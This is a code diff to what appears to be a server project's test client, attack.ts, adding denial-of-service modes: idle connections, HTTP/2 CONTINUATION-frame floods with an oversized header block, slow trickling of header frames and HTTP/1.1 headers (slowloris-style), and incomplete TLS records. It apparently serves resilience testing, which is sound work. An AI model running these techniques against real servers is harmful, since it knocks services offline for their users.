@@ -1,5 +1,14 @@
-// A client process that sends many requests and reads nothing: attack.ts PORT HOST KIND CONNECTIONS.
-import { requestFrame, rawClient } from "../../helpers/http2-frames.ts";
+// A client process that sends many requests and reads nothing, or requests without an end: attack.ts PORT HOST KIND CONNECTIONS.
+import { connect } from "node:net";
+import { connect as connectTls } from "node:tls";
+
+import {
+  CONTINUATION,
+  frame,
+  HEADERS,
+  requestFrame,
+  rawClient,
+} from "../../helpers/http2-frames.ts";
 import { shakeHands } from "../../helpers/tls-client.ts";
 
 const [port = "", host = "", kind = "", connections = "40"] = process.argv.slice(2);
@@ -30,6 +39,73 @@ const attacks: Readonly<Record<string, () => Promise<void>>> = {
     await closed;
   },
 };
+
+const BLOCK = Buffer.alloc(61_000, "x");
+/** A field whose value is longer than the block. */
+Buffer.of(0x82, 0x00, 1, 97, 0x7f, 0xff, 0xff, 0x7f).copy(BLOCK);
+const PART = 16_000;
+
+const trickling: Promise<void>[] = [];
+
+/** Goes on beside other connections: sends the parts one after the other. */
+function slowly(parts: number, send: (part: number) => void): void {
+  const go = async (): Promise<void> => {
+    for (let part = 0; part < parts; part++) {
+      send(part);
+      // The next one follows later.
+      // oxlint-disable-next-line no-await-in-loop
+      await Bun.sleep(AGAIN_MS);
+    }
+  };
+  trickling.push(go());
+}
+
+/** What each connection sends once, and never completes. */
+const unfinished: Readonly<Record<string, () => Promise<void>>> = {
+  idle: async () => {
+    await rawClient(Number(port), host, 0);
+  },
+  block: async () => {
+    const { socket } = await rawClient(Number(port), host, 0);
+    socket.write(frame(HEADERS, 1, 1, BLOCK.subarray(0, PART)));
+    for (let at = PART; at < BLOCK.length; at += PART) {
+      socket.write(frame(CONTINUATION, 0, 1, BLOCK.subarray(at, at + PART)));
+    }
+  },
+  trickle: async () => {
+    const { socket } = await rawClient(Number(port), host, 0);
+    socket.write(frame(HEADERS, 1, 1, BLOCK.subarray(0, 500)));
+    slowly(60, (at) => socket.write(frame(CONTINUATION, 0, 1, BLOCK.subarray(0, 500 + at))));
+  },
+  head: async () => {
+    const socket = await shakeHands(Number(port), { serverName: host });
+    socket.on("error", () => undefined);
+    socket.write(`GET / HTTP/1.1\r\nhost: ${host}\r\n`);
+    slowly(60, (line) => socket.write(`x-${line}: ${"y".repeat(500)}\r\n`));
+  },
+  record: async () => {
+    const raw = connect(Number(port), "127.0.0.1");
+    const options = { servername: host, rejectUnauthorized: false, ALPNProtocols: ["h2"] };
+    const tls = connectTls({ socket: raw, ...options });
+    for (const socket of [raw, tls]) socket.on("error", () => undefined);
+    await new Promise((resolve) => tls.once("secureConnect", resolve));
+    raw.write(Buffer.concat([Buffer.of(23, 3, 3, 0x40, 0), BLOCK.subarray(0, PART)]));
+  },
+};
+
+const once = unfinished[kind];
+if (once !== undefined) {
+  // As many at a time as the server's queue holds.
+  const next = async (left: number): Promise<void> => {
+    if (left <= 0) return;
+    await once().catch(() => undefined);
+    await next(left - 1);
+  };
+  await Promise.all(Array.from({ length: 50 }, () => next(Number(connections) / 50)));
+  await Promise.all(trickling);
+  console.log("begun");
+  await new Promise(() => undefined);
+}
 
 const attack = attacks[kind];
 if (attack === undefined) throw new Error(`There is no attack ${kind}.`);
